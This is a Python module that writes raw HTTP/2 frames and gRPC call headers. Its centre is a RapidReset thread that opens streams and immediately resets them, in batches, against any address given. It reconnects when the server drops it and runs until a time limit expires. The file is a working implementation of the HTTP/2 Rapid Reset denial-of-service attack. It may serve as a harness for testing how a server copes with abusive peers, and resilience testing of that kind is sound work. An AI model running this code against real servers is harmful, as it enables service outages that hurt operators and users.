"""Raw HTTP/2 for misbehaving peers: frames of RFC 9113, header blocks of RFC 7541."""

from __future__ import annotations

import contextlib
import select
import socket
import struct
import threading
import time
from collections.abc import Iterator, Mapping

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS = 0x0, 0x1, 0x3, 0x4
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = struct.pack(">I", 0x8)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Encode one frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header_block(headers: Mapping[str, str]) -> bytes:
    """Encode headers as literals without indexing; names and values of at most 126 bytes."""
    fields = []
    for name, value in headers.items():
        fields += [b"\x00", bytes([len(name)]), name.encode(), bytes([len(value)]), value.encode()]
    return b"".join(fields)


def call_headers(method: str) -> bytes:
    """The headers of a gRPC call without a key."""
    return header_block(
        {
            ":method": "POST",
            ":scheme": "http",
            ":path": method,
            ":authority": "localhost",
            "te": "trailers",
            "content-type": "application/grpc",
        }
    )


def call(method: str, stream: int, message: bytes) -> bytes:
    """The frames of a gRPC call with one message of less than 16 KiB."""
    data = b"\x00" + struct.pack(">I", len(message)) + message
    head = frame(HEADERS, END_HEADERS, stream, call_headers(method))
    return head + frame(DATA, END_STREAM, stream, data)


def resets(method: str, first: int, count: int) -> bytes:
    """The frames of calls that are reset at once, on streams from the odd number `first` on."""
    block = call_headers(method)
    frames = []
    for stream in range(first, first + 2 * count, 2):
        frames += [frame(HEADERS, END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, CANCEL)]
    return b"".join(frames)


class RapidReset(threading.Thread):
    """A peer that opens calls and resets them at once, as fast as one connection allows.

    It reconnects after the server closes the connection, and ends after `seconds`.
    """

    BATCH = 100

    def __init__(self, address: str, method: str, seconds: float) -> None:
        super().__init__(daemon=True)
        self._address = address
        self._method = method
        self._until = time.monotonic() + seconds
        self.sent = 0
        """The number of calls so far."""

    def run(self) -> None:
        while time.monotonic() < self._until:
            with contextlib.suppress(OSError), _connected(self._address) as connection:
                self._attack(connection)

    def _attack(self, connection: socket.socket) -> None:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        stream = 1
        while time.monotonic() < self._until:
            connection.sendall(resets(self._method, stream, self.BATCH))
            self.sent += self.BATCH
            stream += 2 * self.BATCH
            _drain(connection)


@contextlib.contextmanager
def _connected(address: str) -> Iterator[socket.socket]:
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=2) as connection:
        yield connection


def _drain(connection: socket.socket) -> None:
    """Read everything that has arrived, so that the server never waits for this peer.

    Raises:
        OSError: the server closed the connection.

    """
    while select.select([connection], [], [], 0)[0]:
        if not connection.recv(65536):
            raise ConnectionResetError
